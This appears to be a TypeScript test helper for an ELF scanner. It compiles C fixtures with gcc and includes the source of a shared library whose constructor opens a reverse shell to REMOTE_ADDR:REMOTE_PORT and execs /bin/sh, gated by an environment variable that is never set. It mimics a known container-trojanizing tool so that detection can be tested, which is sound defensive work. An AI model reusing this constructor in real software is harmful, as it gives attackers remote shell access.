/**
 * Compiling small C files with the system's gcc for tests that need real ELF files: shared
 * libraries with constructors, executables, static binaries. The files are only read by the
 * scanner, never loaded or run.
 *
 * @module
 */
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { makeTempDir, removeDir } from './temp-dir.js'
import { runCommand } from './run-command.js'

/** What to build: a shared library (`-shared -fPIC`), a dynamically linked executable, or a static one. */
export type CompileKind = 'shared' | 'executable' | 'static'

const FLAGS: Record<CompileKind, string[]> = {
  shared: ['-shared', '-fPIC'],
  executable: [],
  static: ['-static'],
}

/**
 * Compiles `source` with gcc (-O1, no debug info) and returns the output's bytes.
 *
 * @example
 * const so = await compileC('int f(void) { return 1; }', 'shared')
 */
export async function compileC(source: string, kind: CompileKind): Promise<Buffer> {
  const dir = await makeTempDir('cc')
  try {
    const input = join(dir, 'input.c')
    const output = join(dir, kind === 'shared' ? 'output.so' : 'output')
    await writeFile(input, source)
    await runCommand('gcc', ['-O1', '-g0', '-w', ...FLAGS[kind], '-o', output, input])
    return await readFile(output)
  } finally {
    await removeDir(dir)
  }
}

/**
 * A harmless stand-in for the reverse-shell library `dockerscan trojanize` adds: its
 * constructor would connect to REMOTE_ADDR:REMOTE_PORT, put the socket on descriptors 0-2 and
 * start /bin/sh, but it returns at once unless a variable no one sets is set, and the tests
 * never load it anyway. It imports socket, connect, dup2 and execve and holds the "/bin/sh"
 * string, as the real one does.
 */
export const TROJAN_LIBRARY_SOURCE = `
#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void call_home(void) {
  if (getenv("PUSHSCAN_TEST_NEVER_SET") == NULL) return;
  const char *host = getenv("REMOTE_ADDR");
  const char *port = getenv("REMOTE_PORT");
  if (host == NULL || port == NULL) return;
  struct sockaddr_in peer = { .sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port)) };
  inet_pton(AF_INET, host, &peer.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0 || connect(fd, (struct sockaddr *)&peer, sizeof peer) != 0) return;
  for (int i = 0; i < 3; i++) dup2(fd, i);
  char *argv[] = { "/bin/sh", NULL };
  execve("/bin/sh", argv, NULL);
}
`
